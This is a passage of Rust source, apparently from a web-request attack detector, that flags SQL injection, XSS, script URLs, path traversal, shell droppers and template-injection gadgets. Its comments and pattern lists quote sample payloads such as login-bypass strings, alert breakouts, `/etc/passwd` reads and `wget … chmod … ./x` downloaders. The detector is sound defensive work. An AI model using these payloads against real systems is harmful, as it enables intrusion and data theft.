        .take_while(|b| b.is_ascii_alphanumeric() || **b == b'_')
        .count();
    let rest = &text[len..];
    (&text[..len], rest)
}

/// What the words of a text say about it as SQL.
#[derive(Default)]
struct SqlWords {
    /// Something beyond comparisons and logic: a quote, a comment, `;`,
    /// `=`, `||`, an SQL-only word or a called SQL function.
    strong: bool,
    /// Grammar only injections use (see [`sql_injection`]).
    grammar: bool,
    /// Words that make a statement dangerous even when typed whole.
    dangerous: bool,
}

impl SqlWords {
    fn of(text: &[u8]) -> SqlWords {
        let mut words = SqlWords {
            strong: text
                .iter()
                .any(|b| matches!(b, b'\'' | b'"' | b'`' | b';' | b'#' | b'='))
                || find_pair(text, b'-', b'-').is_some()
                || find_pair(text, b'/', b'*').is_some()
                || find_pair(text, b'|', b'|').is_some(),
            ..SqlWords::default()
        };
        // Each word with the one before it and what follows it.
        let mut previous: &[u8] = b"";
        let mut before_previous: &[u8] = b"";
        let mut start = 0;
        for word in text.split(|b| !(b.is_ascii_alphanumeric() || *b == b'_')) {
            let end = start + word.len();
            if word.first().is_some_and(u8::is_ascii_alphabetic) {
                let rest = text[end..].trim_ascii_start();
                let called = rest.first() == Some(&b'(');
                let is = |w: &[u8], expected: &str| w.eq_ignore_ascii_case(expected.as_bytes());
                if SQL_ALWAYS.contains(word)
                    || (called && SQL_CALLS.contains(word) && !is(word, "if"))
                {
                    words.strong = true;
                }
                let delay = ["sleep", "pg_sleep", "benchmark"]
                    .iter()
                    .any(|d| is(word, d))
                    && called
                    && text[..start].last() != Some(&b'.')
                    && rest[1..]
                        .trim_ascii_start()
                        .first()
                        .is_some_and(u8::is_ascii_digit);
                let after_union = is(previous, "union")
                    || (is(before_previous, "union")
                        && ["all", "distinct", "distinctrow"]
                            .iter()
                            .any(|w| is(previous, w)));
                words.grammar |= delay
                    || (is(word, "select") && after_union)
                    || (is(word, "delay") && is(previous, "waitfor"))
                    || (is(word, "analyse") && is(previous, "procedure"));
                words.dangerous |= delay
                    || [
                        "waitfor",
                        "outfile",
                        "dumpfile",
                        "load_file",
                        "xp_cmdshell",
                        "extractvalue",
                        "updatexml",
                    ]
                    .iter()
                    .any(|d| is(word, d));
                before_previous = previous;
                previous = word;
            }
            start = end + 1;
        }
        words.grammar |= ends_in_boolean_tautology(text);
        words
    }

    /// A statement typed whole (`select …`, `with …`) that breaks out of
    /// nothing: no `;`, comment or unbalanced quote, nothing dangerous.
    fn is_plain_statement(&self, text: &[u8]) -> bool {
        let text = text.trim_ascii_start();
        let opens = ["select ", "with "]
            .iter()
            .any(|w| starts_with_ignore_case(text, w.as_bytes()))
            || (!self.grammar && opens_as_filter(text));
        opens
            && !self.dangerous
            && !text.iter().any(|b| matches!(b, b';' | b'#' | b'`'))
            && find_pair(text, b'-', b'-').is_none()
            && find_pair(text, b'/', b'*').is_none()
            && memchr::memchr_iter(b'\'', text).count() % 2 == 0
            && memchr::memchr_iter(b'"', text).count() % 2 == 0
    }
}

/// Whether `text` opens as a filter expression typed whole — a field, an
/// operator, a value (`project = OPS AND status in (…) ORDER BY rank`,
/// `status = 'open'`): the query languages of issue trackers (JQL),
/// log search and admin consoles. An injection appends to a value that
/// was there (`42 and 1=1`, `x' or 'a'='a`); it does not open with a
/// field name and an operator.
fn opens_as_filter(text: &[u8]) -> bool {
    let field = text
        .iter()
        .position(|b| !(b.is_ascii_alphanumeric() || matches!(b, b'_' | b'.')))
        .unwrap_or(text.len());
    if field == 0 || !text[0].is_ascii_alphabetic() {
        return false;
    }
    let rest = &text[field..];
    let after_space = rest.trim_ascii_start();
    if after_space.len() == rest.len() {
        return false;
    }
    let word_operator = ["in ", "in(", "is ", "not in ", "was ", "~ "]
        .iter()
        .any(|op| starts_with_ignore_case(after_space, op.as_bytes()));
    let symbol_operator = matches!(
        after_space,
        [b'=' | b'<' | b'>' | b'~', ..] | [b'!', b'=', ..]
    );
    word_operator || symbol_operator
}

/// A value, then a logic operator or a clause: how an injection opens
/// (`1 and 2>1`, `5 || 1`, `1 order by 5`).
fn opens_as_injection(text: &[u8]) -> bool {
    let text = text.trim_ascii_start();
    let text = text.strip_prefix(b"-").unwrap_or(text);
    let value = text
        .iter()
        .take_while(|b| b.is_ascii_alphanumeric() || matches!(b, b'_' | b'.'))
        .count();
    if value == 0 {
        return false;
    }
    let rest = text[value..].trim_ascii_start();
    let word = rest.iter().take_while(|b| b.is_ascii_alphabetic()).count();
    let next = rest[word..].trim_ascii_start();
    let by =
        next.len() > 2 && starts_with_ignore_case(next, b"by") && !next[2].is_ascii_alphanumeric();
    ["and", "or", "xor", "div", "having", "union", "limit"]
        .iter()
        .any(|op| rest[..word].eq_ignore_ascii_case(op.as_bytes()))
        || (by
            && ["order", "group"]
                .iter()
                .any(|op| rest[..word].eq_ignore_ascii_case(op.as_bytes())))
        || rest.starts_with(b"&&")
        || rest.starts_with(b"||")
}

/// `… or true`, `…' and false -- x`: a logic operator after a value
/// (a number, a quote, a parenthesis) and a boolean literal ending the
/// text, perhaps before a comment.
fn ends_in_boolean_tautology(text: &[u8]) -> bool {
    let text = strip_trailing_comment(text).trim_ascii_end();
    let text = text.strip_suffix(b")").unwrap_or(text).trim_ascii_end();
    let Some(literal) = ["true", "false"]
        .iter()
        .find(|l| ends_with_ignore_case(text, l.as_bytes()))
    else {
        return false;
    };
    let before = text[..text.len() - literal.len()].trim_ascii_end();
    if before
        .last()
        .is_some_and(|b| b.is_ascii_alphanumeric() || *b == b'_')
        && !["or", "and", "xor", "not"]
            .iter()
            .any(|op| ends_with_word(before, op))
    {
        return false;
    }
    let before = before
        .strip_suffix(b"||")
        .or_else(|| before.strip_suffix(b"&&"))
        .or_else(|| {
            ["or", "and", "xor"]
                .iter()
                .find(|op| ends_with_word(before, op))
                .map(|op| &before[..before.len() - op.len()])
        });
    before.is_some_and(|b| {
        b.trim_ascii_end()
            .last()
            .is_some_and(|b| b.is_ascii_digit() || matches!(b, b'\'' | b'"' | b')'))
    })
}

/// Whether `text` ends with `word` as a whole word, ignoring case.
fn ends_with_word(text: &[u8], word: &str) -> bool {
    ends_with_ignore_case(text, word.as_bytes())
        && !text[..text.len() - word.len()]
            .last()
            .is_some_and(|b| b.is_ascii_alphanumeric() || *b == b'_')
}

/// `text` without an SQL comment that ends it (`-- abcd`, `--+`, `#`,
/// `/*`): sqlmap ends its payloads with a comment and a few random letters.
fn strip_trailing_comment(text: &[u8]) -> &[u8] {
    let tail_start = text.len().saturating_sub(12);
    for marker in [&b"--"[..], b"#", b"/*"] {
        if let Some(at) = text[tail_start..]
            .windows(marker.len())
            .position(|w| w == marker)
        {
            let at = tail_start + at;
            let after = &text[at + marker.len()..];
            if after
                .iter()
                .all(|b| b.is_ascii_alphanumeric() || b" +-".contains(b))
            {
                return &text[..at];
            }
        }
    }
    text
}

/// `1' AND f(…)-- x`: a quote, perhaps closing parentheses, then a logic
/// operator or a statement word, and the rest of the query commented away
/// — the shape of an injection into a quoted string, whatever functions
/// it calls.
fn breaks_out_of_quote(text: &[u8]) -> bool {
    let body = strip_trailing_comment(text);
    if body.len() == text.len() {
        return false;
    }
    memchr::memchr2_iter(b'\'', b'"', body).any(|quote| {
        let rest = &body[quote + 1..];
        let rest = &rest[rest
            .iter()
            .take_while(|b| b.is_ascii_whitespace() || **b == b')')
            .count()..];
        let word = rest.iter().take_while(|b| b.is_ascii_alphabetic()).count();
        word > 0
            && rest.get(word).is_none_or(|b| !b.is_ascii_alphanumeric())
            && [
                "and",
                "or",
                "xor",
                "union",
                "order",
                "group",
                "having",
                "procedure",
                "into",
            ]
            .iter()
            .any(|w| rest[..word].eq_ignore_ascii_case(w.as_bytes()))
    })
}

fn libinjection_xss(text: &[u8]) -> bool {
    libinjectionrs::detect_xss(&text[..text.len().min(LIBINJECTION_MAX)]).is_injection()
}

/// Where an SQL injection could start in `text`, if anywhere: the start of
/// the `/`-separated segment holding the first SQL-ish character or word.
/// `None` when nothing in the text is worth libinjection's time: no quote,
/// comment or `;`, and no SQL word — parentheses and spaces alone are how
/// arithmetic (`(5+3)*2`, `sin(x)/x`) and sentences look.
fn injection_start(text: &[u8], marks: Marks) -> Option<usize> {
    if !marks.any(QUOTE | BACKTICK | PAREN | SEMI | HASH | SPACE | DASH | STAR) {
        return None;
    }
    let mut first = None;
    let mut earlier = |found: Option<usize>| {
        if let Some(i) = found {
            first = Some(first.map_or(i, |f: usize| f.min(i)));
        }
    };
    if marks.any(QUOTE | BACKTICK | SEMI | HASH) {
        earlier(
            text.iter()
                .position(|&b| matches!(b, b'\'' | b'"' | b'`' | b';' | b'#')),
        );
    }
    if marks.any(DASH) {
        earlier(find_pair(text, b'-', b'-'));
    }
    if marks.any(STAR) {
        earlier(find_pair(text, b'/', b'*'));
    }
    if marks.any(SPACE | PAREN) {
        earlier(first_sql_word(text, marks));
    }
    let first = first?;
    Some(
        text[..first]
            .iter()
            .rposition(|&b| b == b'/')
            .map_or(0, |slash| slash + 1),
    )
}

/// SQL words that suggest an injection wherever they appear.
static SQL_ALWAYS: WordSet = WordSet::new(&[
    "exec",
    "sleep",
    "union",
    "having",
    "select",
    "declare",
    "execute",
    "outfile",
    "waitfor",
    "dumpfile",
    "pg_sleep",
    "benchmark",
    "concat_ws",
    "load_file",
    "procedure",
    "updatexml",
    "sysobjects",
    "xp_cmdshell",
    "extractvalue",
    "group_concat",
    "information_schema",
]);

/// SQL operators and statements that are everyday words too: they count
/// in text with an operator character, or right after a number, a closing
/// parenthesis or a quote (`1 or 1=1`, `1 order by 5`) — not in `rock and
/// roll` or `update my address`.
static SQL_CONTEXTUAL: WordSet = WordSet::new(&[
    "in", "is", "or", "and", "not", "xor", "case", "drop", "into", "like", "null", "when", "alter",
    "delay", "group", "limit", "order", "rlike", "create", "delete", "exists", "insert", "regexp",
    "update", "between", "truncate",
]);

/// SQL functions injections call: they count when called (`char(58)`).
static SQL_CALLS: WordSet = WordSet::new(&[
    "if",
    "chr",
    "elt",
    "iif",
    "mid",
    "cast",
    "char",
    "rand",
    "user",
    "ascii",
    "count",
    "floor",
    "concat",
    "substr",
    "convert",
    "version",
    "database",
    "substring",
]);

/// Where the first word that makes `text` look like SQL starts.
fn first_sql_word(text: &[u8], marks: Marks) -> Option<usize> {
    let operators = marks.any(OPERATOR | ANGLE | PIPE | AMP);
    let mut start = 0;
    for word in text.split(|b| !(b.is_ascii_alphanumeric() || *b == b'_')) {
        let end = start + word.len();
        let sql = word.first().is_some_and(u8::is_ascii_alphabetic)
            && (SQL_ALWAYS.contains(word)
                || ((operators || after_operand(&text[..start])) && SQL_CONTEXTUAL.contains(word))
                || (SQL_CALLS.contains(word)
                    && text[end..].trim_ascii_start().first() == Some(&b'(')));
        if sql {
            return Some(start);
        }
        start = end + 1;
    }
    None
}

/// Whether `before` ends with what an SQL operator follows: a number, a
/// closing parenthesis or a quote.
fn after_operand(before: &[u8]) -> bool {
    before
        .trim_ascii_end()
        .last()
        .is_some_and(|b| b.is_ascii_digit() || matches!(b, b')' | b'\'' | b'"'))
}

/// `'`, `"`, `1'`, `id"`, `admin'#`, `x'-- -`: a quote after at most a
/// word, perhaps commenting out the rest — the probe for an SQL error that
/// opens every injection scan, and the classic login bypass. libinjection
/// lets these pass on purpose (too short to be sure); a value that is
/// nothing else is not a name or a sentence.
fn is_quote_probe(text: &[u8]) -> bool {
    let body = text
        .iter()
        .position(|b| !(b.is_ascii_alphanumeric() || *b == b'_' || *b == b'-'))
        .unwrap_or(text.len());
    let mut tail = &text[body..];
    for comment in [&b"-- -"[..], b"--+", b"--", b"#", b"/*"] {
        if let Some(rest) = tail.strip_suffix(comment) {
            tail = rest.trim_ascii_end();
            tail = tail.strip_suffix(b";").unwrap_or(tail);
            break;
        }
    }
    body <= 32
        && (1..=4).contains(&tail.len())
        && matches!(tail[0], b'\'' | b'"')
        && tail
            .iter()
            .all(|b| matches!(b, b'\'' | b'"' | b'`' | b')' | b'('))
}

/// Reflected-script patterns libinjection does not see: a `<script` tag
/// anywhere (`<scr<script>ipt>` is made for filters that strip one), a
/// quote that leaves a JavaScript string to call a sink (`';alert(1);//`,
/// `"-prompt(1)-"`), and AngularJS template injection
/// (`{{constructor.constructor('alert(1)')()}}`).
fn is_xss(text: &[u8], marks: Marks) -> bool {
    (marks.any(ANGLE) && contains_ignore_case(text, b"<script"))
        || (marks.any(ANGLE | QUOTE) && libinjection_xss(text))
        || (marks.any(QUOTE) && leaves_js_string(text))
        || (marks.any(BRACE) && is_template_injection(text))
}

/// JavaScript functions and objects a string breakout reaches for.
static JS_SINKS: WordSet = WordSet::new(&[
    "top",
    "atob",
    "eval",
    "self",
    "alert",
    "fetch",
    "print",
    "import",
    "parent",
    "prompt",
    "string",
    "window",
    "confirm",
    "document",
    "function",
    "location",
    "globalthis",
    "settimeout",
    "constructor",
    "setinterval",
]);

fn leaves_js_string(text: &[u8]) -> bool {
    memchr::memchr2_iter(b'\'', b'"', text).any(|quote| {
        let rest = text[quote + 1..].trim_ascii_start();
        let rest = rest
            .strip_prefix(b")")
            .map_or(rest, <[u8]>::trim_ascii_start);
        let Some((&op, rest)) = rest.split_first() else {
            return false;
        };
        if !matches!(op, b';' | b'+' | b'-' | b'*' | b',') {
            return false;
        }
        let rest = rest.trim_ascii_start();
        let name_len = rest
            .iter()
            .position(|&b| !(b.is_ascii_alphanumeric() || matches!(b, b'_' | b'$' | b'.')))
            .unwrap_or(rest.len());
        let root = rest[..name_len].split(|&b| b == b'.').next().unwrap_or(&[]);
        JS_SINKS.contains(root)
            && matches!(
                rest[name_len..].trim_ascii_start().first(),
                Some(b'(' | b'`' | b'=')
            )
    })
}

fn is_template_injection(text: &[u8]) -> bool {
    find_pair(text, b'{', b'{').is_some()
        && [
            "constructor",
            "alert",
            "prompt",
            "confirm",
            "$eval",
            "fromcharcode",
        ]
        .iter()
        .any(|sink| contains_ignore_case(text, sink.as_bytes()))
}

/// Whether `text` carries script in markup or a script URL, as written or
/// with its HTML character references decoded (`&#x6a;`, `&colon;`,
/// `&Tab;`), as a browser decodes them inside an attribute.
fn xss(text: &[u8], marks: Marks) -> bool {
    if is_xss(text, marks) {
        return true;
    }
    if !marks.any(AMP) {
        return false;
    }
    let mut buf = [0u8; ENTITY_VIEW_BYTES];
    match html_unescape(text, &mut buf) {
        Some(view) => {
            let marks = Marks::of(view);
            is_xss(view, marks) || has_script_url(view, marks)
        }
        None => false,
    }
}

/// [`has_script_url`] of `text` or of its HTML-decoded view: a value used
/// as a link (`next=`, `url=`) needs no markup to run script.
fn xss_url(text: &[u8], marks: Marks) -> bool {
    if has_script_url(text, marks) {
        return true;
    }
    if !marks.any(AMP) {
        return false;
    }
    let mut buf = [0u8; ENTITY_VIEW_BYTES];
    html_unescape(text, &mut buf).is_some_and(|view| has_script_url(view, Marks::of(view)))
}

/// How much of a text is HTML-decoded: payloads are short, and the bound
/// keeps the work per request fixed.
const ENTITY_VIEW_BYTES: usize = 512;

/// `text` (its first [`ENTITY_VIEW_BYTES`]) with HTML character
/// references decoded into `buf` — numeric ones (`&#106;`, `&#x6A`, the
/// `;` optional, as browsers accept) when they stand for ASCII, and the
/// named ones that spell out syntax (`&colon;`, `&lpar;`, `&Tab;`,
/// `&NewLine;`, …); `None` when `text` has none, the common case.
fn html_unescape<'b>(text: &[u8], buf: &'b mut [u8; ENTITY_VIEW_BYTES]) -> Option<&'b [u8]> {
    let first = memchr::memchr(b'&', text)?;
    let text = &text[..text.len().min(ENTITY_VIEW_BYTES)];
    let (mut read, mut write, mut decoded) = (first, first, false);
    buf[..first.min(text.len())].copy_from_slice(&text[..first.min(text.len())]);
    while read < text.len() {
        let (b, used) = if text[read] == b'&' {
            html_reference(&text[read..]).unwrap_or((b'&', 1))
        } else {
            (text[read], 1)
        };
        decoded |= used > 1;
        buf[write] = b;
        write += 1;
        read += used;
    }
    decoded.then_some(&buf[..write])
}

/// The ASCII byte the character reference at the start of `s` stands for,
/// and its length.
fn html_reference(s: &[u8]) -> Option<(u8, usize)> {
    if let Some(number) = s.strip_prefix(b"&#") {
        let (radix, digits) = match number.first() {
            Some(b'x' | b'X') => (16, &number[1..]),
            _ => (10, number),
        };
        let len = digits
            .iter()
            .take_while(|b| b.is_ascii_hexdigit() && (radix == 16 || b.is_ascii_digit()))
            .count();
        if len == 0 || len > 8 {
            return None;
        }
        let value = digits[..len].iter().fold(0u32, |v, &b| {
            v * radix + (b as char).to_digit(radix).unwrap_or(0)
        });
        let used = s.len() - digits.len() + len + usize::from(digits.get(len) == Some(&b';'));
        return (value < 0x80).then_some((value as u8, used));
    }
    let name_len = s[1..]
        .iter()
        .take_while(|b| b.is_ascii_alphabetic())
        .count();
    if s.get(1 + name_len) != Some(&b';') {
        return None;
    }
    let byte = lookup(&s[1..1 + name_len], NAMED_REFERENCES)?;
    Some((byte, name_len + 2))
}

/// Named character references that spell out syntax. Ordered like a
/// [`WordSet`]'s words.
const NAMED_REFERENCES: &[(&str, u8)] = &[
    ("gt", b'>'),
    ("lt", b'<'),
    ("amp", b'&'),
    ("num", b'#'),
    ("sol", b'/'),
    ("tab", b'\t'),
    ("apos", b'\''),
    ("bsol", b'\\'),
    ("excl", b'!'),
    ("lpar", b'('),
    ("lsqb", b'['),
    ("quot", b'"'),
    ("rpar", b')'),
    ("rsqb", b']'),
    ("semi", b';'),
    ("colon", b':'),
    ("grave", b'`'),
    ("equals", b'='),
    ("period", b'.'),
    ("newline", b'\n'),
];

/// Schemes whose URLs run script.
const SCRIPT_SCHEMES: [&str; 5] = [
    "javascript:",
    "vbscript:",
    "livescript:",
    "data:text/html",
    "data:image/svg+xml",
];

/// A script URL (`javascript:`, `vbscript:`, `data:text/html`, …) where a
/// URL starts: at the start of the value (a link target: `next=`,
/// `url=`) or of an attribute value or CSS `url(` inside it (`href="…`,
/// `src=…`, `url(…`, `content="0;url=…`). Browsers skip leading spaces and
/// control characters, ignore tabs and newlines inside the scheme, and
/// fold case — so does this. `javascript:`/`vbscript:` count only when
/// code follows (a call, a comment, an assignment): `javascript: the good
/// parts` is a book.
fn has_script_url(text: &[u8], marks: Marks) -> bool {
    if !marks.any(COLON) {
        return false;
    }
    std::iter::once(0)
        .chain(
            text.iter()
                .enumerate()
                .filter(|(_, b)| matches!(b, b'=' | b'"' | b'\'' | b'(' | b'`'))
                .map(|(i, _)| i + 1),
        )
        .any(|start| script_url_at(&text[start..]))
}

fn script_url_at(text: &[u8]) -> bool {
    let text = &text[text.iter().take_while(|&&b| b <= b' ').count()..];
    SCRIPT_SCHEMES.iter().any(|scheme| {
        let Some(rest) = strip_scheme(text, scheme.as_bytes()) else {
            return false;
        };
        scheme.starts_with("data:")
            || (rest
                .iter()
                .any(|b| matches!(b, b'(' | b'`' | b'/' | b'=' | b'[' | b'\\'))
                && !is_no_op_script(rest))
    })
}

/// Whether a script URL's code is the no-op links use as their target
/// (`javascript:void(0)`, `javascript:void 0;`): it runs nothing.
fn is_no_op_script(code: &[u8]) -> bool {
    let code = code.trim_ascii();
    let code = code.strip_suffix(b";").unwrap_or(code).trim_ascii_end();
    [&b"void(0)"[..], b"void 0", b"void(null)", b"undefined"]
        .iter()
        .any(|no_op| code.eq_ignore_ascii_case(no_op))
}

/// `text` after `scheme` (lower case), ignoring case and the tabs and
/// newlines browsers drop from URLs.
fn strip_scheme<'t>(text: &'t [u8], scheme: &[u8]) -> Option<&'t [u8]> {
    let mut i = 0;
    for &expected in scheme {
        while matches!(text.get(i), Some(b'\t' | b'\n' | b'\r')) {
            i += 1;
        }
        if text.get(i)?.to_ascii_lowercase() != expected {
            return None;
        }
        i += 1;
    }
    Some(&text[i..])
}

// ---------------------------------------------------------------------------
// Path traversal.

struct Climbs {
    count: usize,
    /// Where the text after the last `..` segment starts.
    after_last: usize,
    /// Some climb is written as only tools write one: with a backslash
    /// (`..\\`), Tomcat's `..;/`, or a NUL before its separator.
    by_tool: bool,
}

/// The `..` segments in `text`: `..` followed by `/`, `\` or `;` (Tomcat's
/// `..;/`), or ending the text after a separator. NUL bytes between the
/// dots and the separator (`..%00/`), which C-string filters stop at and
/// some servers drop, do not hide a climb.
fn dot_dot_climbs(text: &[u8]) -> Climbs {
    let mut climbs = Climbs {
        count: 0,
        after_last: 0,
        by_tool: false,
    };
    for i in memchr::memchr_iter(b'.', text).filter(|&i| text.get(i + 1) == Some(&b'.')) {
        let after = i + 2 + text[i + 2..].iter().take_while(|&&b| b == 0).count();
        let climbs_here = match text.get(after) {
            Some(b'/' | b'\\' | b';') => true,
            None => i > 0 && matches!(text[i - 1], b'/' | b'\\'),
            _ => false,
        };
        if climbs_here {
            climbs.by_tool |= after > i + 2 || matches!(text.get(after), Some(b'\\' | b';'));
            climbs.count += 1;
            climbs.after_last = (after + 1).min(text.len());
        }
    }
    climbs
}

fn traversal_in_value(text: &[u8], marks: Marks) -> bool {
    if marks.any(DOT) {
        let climbs = dot_dot_climbs(text);
        // One `../` is how relative links look; two, one written as only
        // tools write it (`..\\`, `..;/`), or one that reaches a system file
        // or a secret, is a climb.
        let target = &text[climbs.after_last..];
        if climbs.count >= 2
            || (climbs.count == 1
                && (climbs.by_tool || names_system_file(target) || is_sensitive_path(target)))
        {
            return true;
        }
    }
    // A system file named outright (`/etc/passwd`, `C:\\boot.ini`), unless
    // it sits in a sentence (`how to edit /etc/hosts on mac`): that is
    // someone asking about the file. A payload that runs a command on it
    // (`%0a/bin/cat /etc/passwd`, `| type C:\\Windows\\win.ini`) has a
    // shell separator and stays one.
    marks.any(SLASH | BACKSLASH | COLON) && names_system_file(text) && !is_prose(text)
}

/// Whether `text` opens with a command's name and its end (`cat file.txt |
/// wc -l`, `ls -la | grep txt`): a command line typed whole.
fn opens_with_command(text: &[u8]) -> bool {
    command_at(text).is_some_and(|(needs, arg)| {
        !arg.is_empty() || needs_met(needs, arg) || piped_with_spaces(text)
    })
}

/// Whether `text` opens with a word, then ` | ` and a command (`ls | wc
/// -l`): a pipeline as a person types it, spaces around the bar.
fn piped_with_spaces(text: &[u8]) -> bool {
    let word = text
        .iter()
        .take_while(|b| b.is_ascii_alphanumeric())
        .count();
    text[word..]
        .strip_prefix(b" |")
        .is_some_and(|rest| rest.first() == Some(&b' ') && command_follows(rest))
}

/// Whether `text`, a command line, downloads a program and runs it
/// (`cd /tmp; wget http://…/x; chmod 777 x; ./x`, `curl … | sh`, `wget
/// http://…/x.sh; sh x.sh`), or decodes one and runs it (`echo … | base64
/// -d | sh`): what botnets inject into routers and cameras, never a
/// question about the shell.
fn is_dropper(text: &[u8]) -> bool {
    ["wget ", "curl ", "tftp ", "base64 -d", "base64 --decode"]
        .iter()
        .any(|fetch| contains_ignore_case(text, fetch.as_bytes()))
        && (contains_ignore_case(text, b"chmod ")
            || memchr::memchr3_iter(b';', b'|', b'&', text).any(|separator| {
                let run = skip_shell_space(&text[separator + 1..]);
                run.starts_with(b"./")
                    || ["sh", "bash"].iter().any(|shell| {
                        starts_with_ignore_case(run, shell.as_bytes())
                            && run.get(shell.len()).is_none_or(|b| b.is_ascii_whitespace())
                    })
            }))
}

/// Where a code-execution gadget counts.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Gadget {
    /// Anywhere: no page, name or search term has it.
    Alone,
    /// Inside template syntax (`{{…}}`, `{%…%}`, `${…}`, `#{…}`, `<%…%>`):
    /// elsewhere it is a programmer's search (`python __class__`).
    InTemplate,
    /// Inside template syntax and with the name of a PHP function that runs
    /// a command as a string (Twig's `['id']|filter('system')`).
    InTemplateWithCallback,
}

/// What template engines, expression languages and databases run code
/// with, lower case:
/// * Java — `Runtime.getRuntime().exec`, `ProcessBuilder`, OGNL's
///   `#_memberAccess` and `@java.lang.…@`, SpEL's and Thymeleaf's
///   `T(java.lang.Runtime)` and `__${…}__`, reflection (`.getClass().`,
///   `Class.forName(`), `javax.script`, FreeMarker's `Execute` and
///   `ObjectConstructor` (`?new()`), Velocity's `$class.inspect`;
/// * Python (Jinja2, Mako, Tornado) — the dunder walk to `os`
///   (`__class__.__mro__`, `__subclasses__()`, `__globals__`,
///   `__builtins__`, `__import__`), in template syntax;
/// * PHP — Twig's callbacks (`registerUndefinedFilterCallback`,
///   `_self.env`, `|filter('system')`, `|map('exec')`), ThinkPHP's
///   `invokefunction`, Drupal's render-array callbacks (`#post_render`,
///   `#pre_render`, `#lazy_builder`, `#access_callback`);
/// * Node — `child_process`, `process.mainModule`, in template syntax;
/// * SQL Server's `xp_cmdshell` and `sp_OACreate`, PostgreSQL's `COPY …
///   FROM PROGRAM '…'`.
const GADGETS: &[(&str, Gadget)] = &[
    ("getruntime(", Gadget::Alone),
    ("processbuilder(", Gadget::Alone),
    ("_memberaccess", Gadget::Alone),
    ("java.lang.runtime", Gadget::Alone),
    ("java.lang.processbuilder", Gadget::Alone),
    ("@java.lang.", Gadget::Alone),
    ("t(java.lang.", Gadget::Alone),
    ("(#context", Gadget::Alone),
    ("@ognl", Gadget::Alone),
    ("__${", Gadget::Alone),
    (".getclass().", Gadget::Alone),
    ("class.forname(", Gadget::Alone),
    ("javax.script", Gadget::Alone),
    ("scriptenginemanager", Gadget::Alone),
    ("freemarker.template.utility", Gadget::Alone),
    ("objectconstructor", Gadget::Alone),
    ("?new(", Gadget::Alone),
    ("$class.inspect", Gadget::Alone),
    ("$class.type", Gadget::Alone),
    ("registerundefinedfiltercallback", Gadget::Alone),
    ("_self.env", Gadget::Alone),
    ("invokefunction", Gadget::Alone),
    ("#post_render", Gadget::Alone),
    ("#pre_render", Gadget::Alone),
    ("#lazy_builder", Gadget::Alone),
    ("#access_callback", Gadget::Alone),
    ("xp_cmdshell", Gadget::Alone),
    ("sp_oacreate", Gadget::Alone),
    ("from program '", Gadget::Alone),
    ("from program \"", Gadget::Alone),
    ("process.mainmodule", Gadget::Alone),
    ("__class__", Gadget::InTemplate),
    ("__mro__", Gadget::InTemplate),
    ("__subclasses__", Gadget::InTemplate),
    ("__globals__", Gadget::InTemplate),
    ("__builtins__", Gadget::InTemplate),
    ("__import__", Gadget::InTemplate),
    ("__init__", Gadget::InTemplate),
    ("child_process", Gadget::InTemplate),
    ("os.popen", Gadget::InTemplate),
    ("|filter(", Gadget::InTemplateWithCallback),
    ("|map(", Gadget::InTemplateWithCallback),
    ("|reduce(", Gadget::InTemplateWithCallback),
    ("|sort(", Gadget::InTemplateWithCallback),
];

static GADGET_MATCHER: LazyLock<AhoCorasick> = LazyLock::new(|| {
    AhoCorasick::builder()
        .ascii_case_insensitive(true)
        .kind(Some(AhoCorasickKind::DFA))
        .build(GADGETS.iter().map(|(pattern, _)| pattern))
        .expect("the code-execution gadgets are a valid, small pattern set")
});

/// Whether `text` carries one of [`GADGETS`] where it counts. No URL of a
/// real page names these.
fn is_code_gadget(text: &[u8]) -> bool {
    let mut template = None;
    GADGET_MATCHER.find_overlapping_iter(text).any(|m| {
        let kind = GADGETS[m.pattern().as_usize()].1;
        kind == Gadget::Alone
            || *template.get_or_insert_with(|| in_template(text))
                && (kind == Gadget::InTemplate || names_quoted_php_exec(text))
    })
}

/// Whether `text` has template syntax: `{{`, `{%`, `${`, `#{`, `*{`, `<%`.
fn in_template(text: &[u8]) -> bool {
    memchr::memchr2_iter(b'{', b'%', text).any(|i| {
        let before = i.checked_sub(1).map(|j| text[j]);
        match text[i] {
            b'{' => {
                matches!(before, Some(b'{' | b'$' | b'#' | b'*')) || text.get(i + 1) == Some(&b'%')
            }
            _ => before == Some(b'<'),
        }
    })
}

/// Whether `text` has a quoted name of a PHP function that runs a command
/// (`'system'`, `"exec"`).
fn names_quoted_php_exec(text: &[u8]) -> bool {
    memchr::memchr2_iter(b'\'', b'"', text).any(|open| {
        let rest = &text[open + 1..];
        rest.iter()
            .position(|&b| b == text[open])
            .is_some_and(|close| PHP_EXEC.contains(&rest[..close]))
    })
}

/// Whether `text` reads as words in a sentence: several words and no
/// shell separator (`;`, `|`, `&`, a newline, a backtick, `$`).
fn is_prose(text: &[u8]) -> bool {
    // A newline that opens the text is a separator too (`%0a/bin/cat
    // /etc/passwd` runs a command); one that ends it is how a text area
    // ends.
    text.trim_ascii().contains(&b' ')
        && !text
            .trim_ascii_end()
            .iter()
            .any(|b| matches!(b, b';' | b'|' | b'&' | b'\n' | b'\r' | b'`' | b'$'))
}

/// Directories of an operating system itself: a climb that lands in one
/// (`../../etc/issue`, `..\\..\\windows\\repair\\sam`,
/// `../../dev/cmdb/…`) reads the system's files, not the site's.
static SYSTEM_DIRECTORIES: WordSet = WordSet::new(&[
    "dev", "etc", "sys", "usr", "var", "boot", "home", "proc", "root", "winnt", "inetpub",
    "windows", "boot.ini", "system32",
]);

/// Windows' registry hives, which hold password hashes and secrets, by
/// name: under `config` (the live ones) or `repair` (their backups).
static REGISTRY_HIVES: WordSet =
    WordSet::new(&["sam", "system", "ntds.dit", "security", "software"]);

/// Whether `target`, what a traversal climbs to (or a file path given
/// outright), is a system file or a secret: one under an operating
/// system's own directories, a registry hive, or what a request path
/// would be sensitive for. `\\` counts as `/`.
fn reaches_secret(target: &[u8]) -> bool {
    if names_system_file(target) || is_sensitive_path(target) {
        return true;
    }
    // Only climbs get here, so the copy is off the hot path.
    let mut buf = [0u8; 256];
    let slashed = match buf.get_mut(..target.len()) {
        Some(slashed) if memchr::memchr(b'\\', target).is_some() => {
            for (to, &from) in slashed.iter_mut().zip(target) {
                *to = if from == b'\\' { b'/' } else { from };
            }
            if names_system_file(slashed) {
                return true;
            }
            &*slashed
        }
        _ => target,
    };
    let mut segments = slashed
        .split(|&b| b == b'/')
        .filter(|segment| !segment.is_empty());
    if segments.next().is_some_and(|first| {
        SYSTEM_DIRECTORIES.contains(first) || (first.len() == 2 && first[1] == b':')
    }) {
        return true;
    }
    let mut names = slashed.rsplit(|&b| b == b'/');
